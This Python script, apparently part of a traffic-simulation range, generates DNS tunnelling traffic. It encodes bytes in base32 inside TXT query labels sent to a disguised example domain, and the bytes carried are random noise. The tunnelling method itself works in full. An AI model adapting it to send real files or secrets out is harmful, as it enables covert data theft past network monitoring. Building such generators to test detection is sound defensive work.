"""Carries bytes out in the labels of TXT questions to one domain.

References: RFC 1035 2.3.4 (labels of 63 octets), RFC 4648 6 (base 32).
"""

import base64
from collections.abc import Sequence

from wardline_range.chance import Chance
from wardline_range.protocols.noise import noise
from wardline_range.real.programs import lifetime
from wardline_range.real.programs.pace import beats
from wardline_range.real.programs.questions import ask

_LABEL = 57


def main(given: Sequence[str] | None = None) -> None:
    """Ask until the time is over; what is carried is noise."""
    parser = lifetime.arguments(__doc__)
    parser.add_argument("--server", required=True)
    parser.add_argument("--port", type=int, default=53)
    parser.add_argument("--domain", default="cache.tile-sync.example")
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--every", type=float, default=0.2)
    parser.add_argument("--seed", type=int, default=1)
    told = parser.parse_args(given)
    chance = Chance(told.seed, "dns tunnel")
    for number in beats(told.seconds, told.every, 0.4, chance):
        ask(told.server, told.port, number, name(number, noise(chance, 60 + chance.below(46)), told.domain), "TXT")


def name(number: int, carried: bytes, domain: str) -> str:
    """The name that carries these bytes, at most 105 of them."""
    text = base64.b32encode(carried).decode().rstrip("=").lower()
    return ".".join((f"{number:04x}", *(text[at : at + _LABEL] for at in range(0, len(text), _LABEL)), domain))


if __name__ == "__main__":
    main()
